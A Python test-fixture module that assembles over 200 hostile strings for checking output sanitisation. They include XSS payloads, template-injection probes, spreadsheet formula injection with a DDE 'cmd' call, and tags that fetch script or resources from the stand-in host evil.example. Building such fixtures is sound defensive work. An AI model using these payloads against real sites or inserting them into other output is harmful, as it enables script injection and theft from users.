"""More than 200 texts that would run something where they are not shown as they are: scripts, handlers, templates.

Each of them, if it runs, calls `alert` or asks for an address of `evil.example`, which a test notices.
"""

from __future__ import annotations

_CODE = "alert(1)"
_TAGS = (
    "<img src=x {event}={code}>", "<svg {event}={code}>", "<svg/{event}={code}>", "<body {event}={code}>",
    "<video src=x {event}={code}></video>", "<details open {event}={code}>", "<input autofocus {event}={code}>",
    "<iframe {event}={code}></iframe>", "<marquee {event}={code}>", "<object data=x {event}={code}></object>",
    "<style {event}={code}></style>", "<audio src=x {event}={code}>", "<select autofocus {event}={code}>",
    "<textarea autofocus {event}={code}>", "<IMG SRC=x {event}={code}>", "<img\tsrc=x\t{event}={code}>",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerover", "onwheel", "OnErRoR")
_BREAKS = (
    *('"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>"),
    *("\\u003c", "&lt;"),
)
_ADDRESSES = (
    '<a href="javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', "javascript:alert(1)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>x</form>',
    '<base href="http://evil.example/">', '<link rel=stylesheet href="http://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=http://evil.example/">', '<img src="http://evil.example/x.png">',
    '<script src="http://evil.example/x.js"></script>', '<embed src="javascript:alert(1)">',
    '<object data="http://evil.example/x.swf"></object>', "<style>@import 'http://evil.example/x.css'</style>",
    '<div style="background:url(http://evil.example/x.png)">x</div>', "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)", "<math><a xlink:href=javascript:alert(1)>x</a></math>",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<script>alert`1`</script>", "<script type=module>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<xss onpointerenter=alert(1)>x</xss>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{%raw%}{{7*7}}",
    "{{config}}", "{{''.__class__.__mro__}}", "${{<%[%'\"}}%\\.", "*{7*7}", "@(7*7)", "{prompt}", "{0.__class__}",
    "%(prompt)s", "%s%s%n", "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-2+3", "$(alert(1))", "`alert(1)`",
)  # fmt: skip


_ENCODED = (
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "＜img src=x onerror=alert(1)＞",
    "<img src=x onerror=&#97;lert(1)>",
    "a\u202ereversed <b>x</b>",
    "<b>bold</b>",
    "<!--",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
)


def hostile_texts() -> tuple[str, ...]:
    """All different."""
    tags = [tag.format(event=event, code=_CODE) for tag in _TAGS for event in _EVENTS]
    inside = ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>")
    broken = [f"{before}{tag}" for before in _BREAKS for tag in inside]
    attributes = [f"x{quote} onerror=alert(1) autofocus onfocus=alert(1) {quote}" for quote in "\"'`"]
    every = [*tags, *broken, *attributes, *_ENCODED, *_ADDRESSES, *_SCRIPTS, *_TEMPLATES]
    return tuple(dict.fromkeys(every))
